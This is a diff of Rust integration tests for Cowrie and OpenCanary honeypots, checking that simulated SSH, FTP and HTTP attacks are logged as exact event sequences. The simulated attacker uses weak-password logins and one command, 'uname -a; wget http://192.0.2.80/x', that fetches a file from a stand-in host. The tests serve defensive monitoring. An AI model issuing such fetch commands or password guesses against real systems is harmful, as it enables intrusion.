@@ -20,18 +20,19 @@ mod surroundings;
 
 use honeypot::Honeypot;
 
+/// What the attacker's client says first; the version is the machine's.
+const OPENSSH: &str = "banner SSH-2.0-OpenSSH";
+
 #[tokio::test(flavor = "multi_thread")]
 async fn cowrie() {
     let pot = Honeypot::start("cowrie", &[2270, 2271]).await;
     // What its own list of users refuses, and what it lets in.
     pot.ssh(2270, "root", "123456", "id");
-    let refused = pot.event(0).await;
+    let refused = pot.event(0, "close").await;
     assert_eq!(
-        refused[..3],
-        ["connect", &refused[1], "login root/123456 refused"],
+        refused,
+        ["connect", OPENSSH, "login root/123456 refused", "close"],
     );
-    assert!(refused[1].starts_with("banner SSH-2.0-OpenSSH"));
-
     let said = pot.ssh(
         2270,
         "root",
@@ -39,16 +40,28 @@ async fn cowrie() {
         "uname -a; wget http://192.0.2.80/x",
     );
     assert!(said.contains("svr04"), "{said}");
-    let caught = pot.event(1).await;
-    println!("{caught:#?}");
-    for step in [
-        "login root/hunter2 accepted",
-        "command uname -a; wget http://192.0.2.80/x",
-    ] {
-        assert!(
-            caught.iter().any(|known| known == step),
-            "{step}: {caught:?}"
-        );
-    }
+    let caught = pot.event(1, "close").await;
+    assert_eq!(
+        caught,
+        [
+            "connect",
+            OPENSSH,
+            "login root/hunter2 accepted",
+            "command uname -a; wget http://192.0.2.80/x",
+            "close",
+        ]
+    );
+    pot.end().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn opencanary() {
+    let pot = Honeypot::start("opencanary", &[2280, 2281, 2282]).await;
+    pot.curl("ftp://admin:letmein@ADDRESS:2280/");
+    pot.event(0, "login admin/letmein refused").await;
+    pot.ssh(2281, "root", "hunter2", "id");
+    pot.event(1, "login root/hunter2 refused").await;
+    pot.curl("http://ADDRESS:2282/index.html");
+    pot.event(2, "request GET /index.html").await;
     pot.end().await;
 }
